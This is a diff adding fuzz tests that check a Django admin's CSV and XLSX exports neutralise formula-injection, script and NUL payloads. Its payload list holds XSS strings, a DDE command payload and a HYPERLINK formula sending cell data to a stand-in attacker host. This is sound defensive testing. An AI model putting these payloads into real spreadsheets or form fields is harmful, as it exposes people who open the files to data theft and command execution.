@@ -257,13 +257,112 @@ def test_access_log_filter_and_export(org):
     )
 
     @FUZZ
-    @given(query=params, url=st.sampled_from(["/admin/access-log/", "/admin/access-log/export/"]))
-    def run(query, url):
-        response = seen(client.get(url, query))
+    @given(query=params, export=st.booleans())
+    def run(query, export):
+        if export:  # the export is a POST form carrying the page's filters
+            response = seen(client.post("/admin/access-log/export/", query))
+            assert response.status_code == 200, response.status_code  # bad filters: no rows
+            return
+        response = seen(client.get("/admin/access-log/", query))
         if any("\x00" in k + str(v) for k, v in query.items()):
             assert response.status_code == 400, response.status_code  # NUL refused
             return
         assert response.status_code == 200, response.status_code
+
+    run()
+
+
+# --- Exports: formula, script and NUL payloads in every field that reaches one ---------------
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+export_payload = st.one_of(
+    st.builds(lambda p, t: p + t, st.sampled_from([*FORMULA_START, "'", ""]), any_text),
+    st.sampled_from(
+        [
+            "<script>alert(1)</script>",
+            '"><img src=x onerror=alert(1)>',
+            '=HYPERLINK("http://evil.example/?d="&B2,"Open")',
+            "=cmd|' /C calc'!A0",
+        ]
+    ),
+    st.builds(lambda a, b: a + "\x00" + b, any_text, any_text),
+)
+
+
+def _export_cells(response) -> list[str]:
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    if content.startswith(b"PK"):
+        book = load_workbook(io.BytesIO(content))
+        return [c.value for s in book.worksheets for r in s.iter_rows() for c in r if c.value]
+    text = content.decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def test_exports_carry_any_payload_as_text(org):
+    """Whatever a person's, an office's, a course's or a lecture's name, a username or an
+    override reason holds, every export answers 200 and no cell starts a formula."""
+    import datetime as dt
+
+    from django.db import connection
+
+    from audit.models import Action
+    from audit.services import record_access
+    from courses.models import CoursePage
+    from learning.models import Enrollment
+    from live import services as live_services
+    from live.models import Attendance, Lecture
+    from people.models import Office
+    from tests.learning.builders import make_course
+    from tests.live.helpers import attend, past_lecture, pid, store
+
+    course = make_course(lessons=1)
+    Enrollment.objects.create(person=org.person, course=course)
+    lecture = past_lecture(org, offices=(org.east,))
+    start = lecture.start
+    store(attend(lecture, pid(lecture, org.person), start, start + dt.timedelta(minutes=60)))
+    live_services.do_recompute_attendance(lecture)
+    row = lecture.attendance.get(person=org.person)
+    live_services.do_override_attendance(row, status="excused", reason="x", by=org.officer)
+    admin, officer = staff_client(org.administrator), staff_client(org.officer)
+    exports = [
+        (admin, "/admin/access-log/export/", {}),
+        (officer, f"/admin/live/lectures/{lecture.pk}/attendance/export/", {"format": "csv"}),
+        (officer, f"/admin/live/lectures/{lecture.pk}/attendance/export/", {"format": "xlsx"}),
+        (officer, f"/admin/live/persons/{org.person.pk}/lectures/export/", {"format": "csv"}),
+        (officer, f"/admin/progress/offices/{org.east.pk}/export/", {"format": "csv"}),
+        (officer, f"/admin/progress/offices/{org.east.pk}/export/", {"format": "xlsx"}),
+        (officer, f"/admin/progress/courses/{course.pk}/export/", {"format": "xlsx"}),
+    ]
+
+    @settings(FUZZ, max_examples=150)
+    @given(payload=export_payload, field=st.sampled_from(range(6)))
+    def run(payload, field):
+        if connection.vendor == "postgresql":
+            payload = payload.replace("\x00", "")  # PostgreSQL stores no NUL in text
+        value = payload[:100] or "x"
+        if field == 0:
+            Office.objects.filter(pk=org.east.pk).update(name=value)
+        elif field == 1:
+            type(org.person).objects.filter(pk=org.person.pk).update(full_name=value)
+        elif field == 2:
+            CoursePage.objects.filter(pk=course.pk).update(title=value)
+        elif field == 3:
+            Lecture.objects.filter(pk=lecture.pk).update(title=value)
+        elif field == 4:
+            Attendance.objects.filter(pk=row.pk).update(override_reason=value)
+        else:
+            record_access(action=Action.VIEW, username=value[:150], detail=value[:255])
+        for client, url, data in exports:
+            response = seen(client.post(url, data))
+            assert response.status_code == 200, (url, data, response.status_code)
+            cells = [c for c in _export_cells(response) if isinstance(c, str)]
+            unsafe = [c for c in cells if c.startswith(FORMULA_START)]
+            assert not unsafe, (url, data, unsafe)
 
     run()
 
